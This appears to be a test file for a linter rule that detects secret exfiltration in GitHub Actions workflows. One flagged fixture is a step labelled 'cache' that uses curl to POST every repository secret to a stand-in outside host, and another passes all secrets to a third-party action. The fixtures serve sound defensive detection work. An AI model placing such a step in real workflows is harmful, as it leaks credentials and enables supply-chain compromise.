import { ruleTest } from '../../testing/rule-tester.js';
import rule from './ci-secrets-exfil.js';

const wf = (steps: string) => `name: ci\non: [push]\njobs:\n  build:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n${steps}`;

ruleTest(rule, {
  clean: [
    {
      name: 'release workflow using named secrets and a Slack webhook',
      file: '.github/workflows/release.yml',
      code: wf("      - run: npm publish\n        env:\n          NODE_AUTH_TOKEN: ${{ secrets.NPM_TOKEN }}\n      - run: curl -s -X POST -d '{\"text\":\"done\"}' \"$SLACK\"\n        env:\n          SLACK: ${{ secrets.SLACK_WEBHOOK }}\n"),
    },
    { name: 'toJSON of the github context', file: '.github/workflows/debug.yml', code: wf('      - run: echo "$CTX"\n        env:\n          CTX: ${{ toJSON(github) }}\n') },
  ],
  flagged: [
    {
      name: 'all secrets posted to an outside host (Shai-Hulud style)',
      file: '.github/workflows/ci.yml',
      code: wf('      - name: cache\n        run: |\n          curl -s -X POST -d "$S" https://hooks.example.invalid/collect\n        env:\n          S: ${{ toJSON(secrets) }}\n'),
      findings: [{ line: 12, severity: 'critical', confidence: 'high', message: /calls the network/ }],
    },
    {
      name: 'all secrets given to an action as an input: medium',
      file: '.github/workflows/env.yml',
      code: wf('      - uses: some/secrets-to-env@v1\n        with:\n          secrets: ${{ toJSON(secrets) }}\n'),
      findings: [{ line: 10, severity: 'medium', confidence: 'medium', message: /to an action/ }],
    },
  ],
});
